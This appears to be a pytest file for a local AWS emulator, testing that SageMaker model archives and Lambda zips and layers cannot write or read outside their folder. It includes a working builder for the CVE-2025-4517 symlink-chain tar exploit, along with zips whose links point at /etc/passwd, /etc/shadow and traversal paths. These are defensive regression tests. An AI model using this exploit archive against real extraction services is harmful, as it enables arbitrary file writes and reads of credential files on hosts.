"""Issue 23, items 3 and 11: archives a tenant sends never write or read outside their folder.

- A SageMaker ``model.tar.gz`` shaped like the public proof of concept of CVE-2025-4517 (a chain of links
  past PATH_MAX, then a member written through them) made the server write a file into a host folder of
  the archive's choosing while it prepared the endpoint (``tarfile``'s ``data`` filter is bypassed on
  Python 3.11.7). Now the endpoint fails as SageMaker fails it and the folder stays empty.
- Lambda keeps the symbolic links of a function zip or a layer (they used to become plain files holding
  the link text): in the sandbox they resolve in the function's own root, so ``passwd -> /etc/passwd``
  reads the sandbox's file and a link to a host path names nothing. Without the sandbox, links leading
  out of the task root are left out and ``INIT_START`` says so.
- The code is extracted by an unprivileged user (Lambda's sandbox user), not by the server's root.
"""

from __future__ import annotations

import io
import os
import stat
import tarfile
import zipfile
from pathlib import Path

import pytest
from botocore.exceptions import ClientError

from localaws import server
from tests import sagemaker_support as sm
from tests.conftest import LocalAWSHandle, free_port
from tests.local.test_lambda_engine import create_function, invoke, tail_text, unique

ROOT = os.geteuid() == 0


def poc_model_archive(outside: Path, depth: int = 17) -> bytes:
    """CVE-2025-4517's proof of concept as a model archive: 16 links to 247-character folders make the
    path past PATH_MAX, ``os.path.realpath`` gives up, and ``escape`` (``depth`` levels up from the top of
    the archive, spelled so that it looks inside) leads to ``outside``, where ``escape/pwned`` is written."""
    long_name, steps = "d" * 247, "abcdefghijklmnop"
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        path = ""
        for step in steps:
            folder = tarfile.TarInfo(os.path.join(path, long_name))
            folder.type, folder.mode = tarfile.DIRTYPE, 0o755
            tar.addfile(folder)
            link = tarfile.TarInfo(os.path.join(path, step))
            link.type, link.linkname = tarfile.SYMTYPE, long_name
            tar.addfile(link)
            path = os.path.join(path, long_name)
        chain = os.path.join("/".join(steps), "l" * 254)
        back = tarfile.TarInfo(chain)
        back.type, back.linkname = tarfile.SYMTYPE, "../" * len(steps)
        tar.addfile(back)
        escape = tarfile.TarInfo("escape")
        escape.type, escape.linkname = tarfile.SYMTYPE, chain + "/" + "../" * depth + str(outside).lstrip("/")
        tar.addfile(escape)
        body = b"written by the archive\n"
        pwned = tarfile.TarInfo("escape/pwned")
        pwned.size, pwned.mode = len(body), 0o644
        tar.addfile(pwned, io.BytesIO(body))
        code = sm.TINY_INFERENCE.encode()
        for name, data in (("weights.txt", b"tiny\n"), ("code/inference.py", code)):
            member = tarfile.TarInfo(name)
            member.size = len(data)
            tar.addfile(member, io.BytesIO(data))
    return buffer.getvalue()


def _model_archive(members: dict[str, bytes | str]) -> bytes:
    """A tiny model archive; a ``str`` value is a link's target."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name, data in {
            "weights.txt": b"tiny\n",
            "code/inference.py": sm.TINY_INFERENCE.encode(),
            **members,
        }.items():
            member = tarfile.TarInfo(name)
            if isinstance(data, str):
                member.type, member.linkname = tarfile.SYMTYPE, data
                tar.addfile(member)
            else:
                member.size = len(data)
                tar.addfile(member, io.BytesIO(data))
    return buffer.getvalue()


def _zip_with_links(files: dict[str, str], links: dict[str, str]) -> bytes:
    """A zip as ``zip --symlinks`` makes it: a link is a member whose Unix mode is S_IFLNK, its data the target."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
        for name, target in links.items():
            info = zipfile.ZipInfo(name)
            info.create_system = 3
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, target)
    return buffer.getvalue()


def test_a_model_archive_shaped_like_cve_2025_4517_writes_nothing_outside(local_aws, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir(mode=0o777)
    depth = len(Path(local_aws.state_dir).resolve().parts) + 3  # from <state>/sagemaker/models/<staging> to /
    assert depth <= 17, "the proof of concept reaches at most 17 levels up"
    url = sm.upload(local_aws, poc_model_archive(outside, depth), f"{unique('poc')}/model.tar.gz")
    name = unique("ep-poc")
    described = sm.create_endpoint(local_aws, name, url)
    assert list(outside.iterdir()) == [], "the archive wrote outside its folder"
    assert described["EndpointStatus"] == "Failed", described
    assert described["FailureReason"] == (
        f'Failed to extract model data archive for container "primary" from URL "{url}". Please ensure that '
        "the object located at the URL is a valid tar.gz archive."
    )
    with pytest.raises(ClientError) as caught:
        sm.runtime(local_aws).invoke_endpoint(EndpointName=name, Body=b"{}", ContentType="application/json")
    assert caught.value.response["Error"]["Code"] == "ValidationError"


def test_a_model_archive_link_resolved_outside_by_the_kernel_is_refused_and_one_inside_kept(
    local_aws, tmp_path
):
    (tmp_path / "secret.txt").write_text("host\n")
    # Spelled, "here/here/../../secret.txt" stays inside; resolved, each "here" is the top, so ".." leaves it.
    leaving = _model_archive(
        {"here": ".", "secret": "here/here/../../" + str(tmp_path / "secret.txt").lstrip("/")}
    )
    described = sm.create_endpoint(
        local_aws, unique("ep-out"), sm.upload(local_aws, leaving, f"{unique('m')}/model.tar.gz")
    )
    assert described["EndpointStatus"] == "Failed" and "valid tar.gz archive" in described["FailureReason"]

    inside = _model_archive({"code/weights-link.txt": "../weights.txt"})
    name = unique("ep-in")
    described = sm.create_endpoint(
        local_aws, name, sm.upload(local_aws, inside, f"{unique('m')}/model.tar.gz")
    )
    assert described["EndpointStatus"] == "InService", described.get("FailureReason")


def test_lambda_keeps_a_zips_links_resolved_inside_the_sandbox_only(local_aws):
    host_file = Path(local_aws.state_dir).resolve() / "host-only.txt"
    host_file.write_text("the server's state folder\n")
    code = (
        "import os\n\ndef handler(event, context):\n"
        "    seen = {}\n"
        "    for name in ('passwd', 'state', 'app-link', 'up'):\n"
        "        path = '/var/task/' + name\n"
        "        try:\n"
        "            seen[name] = [os.path.islink(path), open(path).read()]\n"
        "        except OSError as exc:\n"
        "            seen[name] = [os.path.islink(path), exc.strerror]\n"
        "    seen['sandbox_passwd'] = open('/etc/passwd').read()\n"
        "    seen['owner'] = os.stat('/var/task/app.py').st_uid\n"
        "    return seen\n"
    )
    if not server.health(local_aws.url)["lambda_sandbox"]["enabled"]:
        pytest.skip("no sandbox on this machine: see the fallback test")
    links = {
        "passwd": "/etc/passwd",
        "state": str(host_file),
        "app-link": "app.py",
        "up": "../../../../../etc/hostname",
    }
    name = unique("links")
    lam = local_aws.client("lambda")
    lam.create_function(
        FunctionName=name, Runtime="python3.12", Role=local_aws.lambda_role(), Handler="app.handler",
        Code={"ZipFile": _zip_with_links({"app.py": code}, links)},
    )  # fmt: skip
    lam.get_waiter("function_active_v2").wait(FunctionName=name, WaiterConfig={"Delay": 0.1})
    _, seen, _ = invoke(local_aws, name)
    assert seen["passwd"] == [True, seen["sandbox_passwd"]], "the sandbox's /etc/passwd, never the host's"
    assert "sbx_user1051" in seen["passwd"][1]
    assert seen["state"] == [True, "No such file or directory"], "a host path names nothing in the sandbox"
    assert seen["app-link"][0] and seen["app-link"][1].startswith("import os")
    assert seen["up"] == [True, "No such file or directory"]
    if ROOT:
        assert seen["owner"] == 993, "extracted by Lambda's sandbox user, not by root"


def test_lambda_keeps_layer_links_and_a_later_layer_replaces_them_without_writing_through(
    local_aws, tmp_path
):
    host = tmp_path / "host-folder"
    host.mkdir(mode=0o755)
    (host / "host-secret.txt").write_text("host\n")
    lam = local_aws.client("lambda")
    linking = lam.publish_layer_version(
        LayerName=unique("layer"),
        Content={"ZipFile": _zip_with_links({"python/ok.py": "X = 1\n"}, {"data": str(host)})},
    )["LayerVersionArn"]
    replacing = lam.publish_layer_version(
        LayerName=unique("layer"), Content={"ZipFile": _zip_with_links({"data/dropped.txt": "layer 2\n"}, {})}
    )["LayerVersionArn"]
    code = (
        "import os\n\ndef handler(event, context):\n"
        "    try:\n        listed = sorted(os.listdir('/opt/data'))\n"
        "    except OSError as exc:\n        listed = exc.strerror\n"
        "    return [os.path.islink('/opt/data'), listed]\n"
    )
    if not server.health(local_aws.url)["lambda_sandbox"]["enabled"]:
        pytest.skip("layers need the sandbox")
    one = create_function(local_aws, code, Layers=[linking])
    assert invoke(local_aws, one)[1] == [True, "No such file or directory"], (
        "a host path names nothing in /opt"
    )
    both = create_function(local_aws, code, Layers=[linking, replacing])
    assert invoke(local_aws, both)[1] == [False, ["dropped.txt"]]
    assert sorted(p.name for p in host.iterdir()) == ["host-secret.txt"], "nothing written through the link"


@pytest.fixture(scope="module")
def unsandboxed(tmp_path_factory):
    state = tmp_path_factory.mktemp("isolation-archives-off")
    mp = pytest.MonkeyPatch()
    mp.setenv("LOCALAWS_SANDBOX", "off")
    try:
        url = server.ensure_running(state, free_port())
    finally:
        mp.undo()
    yield LocalAWSHandle(url=url, state_dir=state, port=int(url.rsplit(":", 1)[1]))
    server.stop(state)


def test_without_the_sandbox_links_leading_out_are_left_out_and_init_start_says_so(unsandboxed):
    code = (
        "import os\n\ndef handler(event, context):\n"
        "    return {n: os.path.lexists(n) for n in ('passwd', 'up', 'app-link')}\n"
    )
    links = {"passwd": "/etc/passwd", "up": "../../../../../../etc/shadow", "app-link": "app.py"}
    name = unique("links-off")
    lam = unsandboxed.client("lambda")
    lam.create_function(
        FunctionName=name, Runtime="python3.12", Role=unsandboxed.lambda_role(), Handler="app.handler",
        Code={"ZipFile": _zip_with_links({"app.py": code}, links)},
    )  # fmt: skip
    lam.get_waiter("function_active_v2").wait(FunctionName=name, WaiterConfig={"Delay": 0.1})
    response, seen, _ = invoke(unsandboxed, name)
    assert seen == {"passwd": False, "up": False, "app-link": True}
    init_start = next(line for line in tail_text(response).splitlines() if line.startswith("INIT_START"))
    assert "links leading out of /var/task left out without the sandbox: passwd, up" in init_start
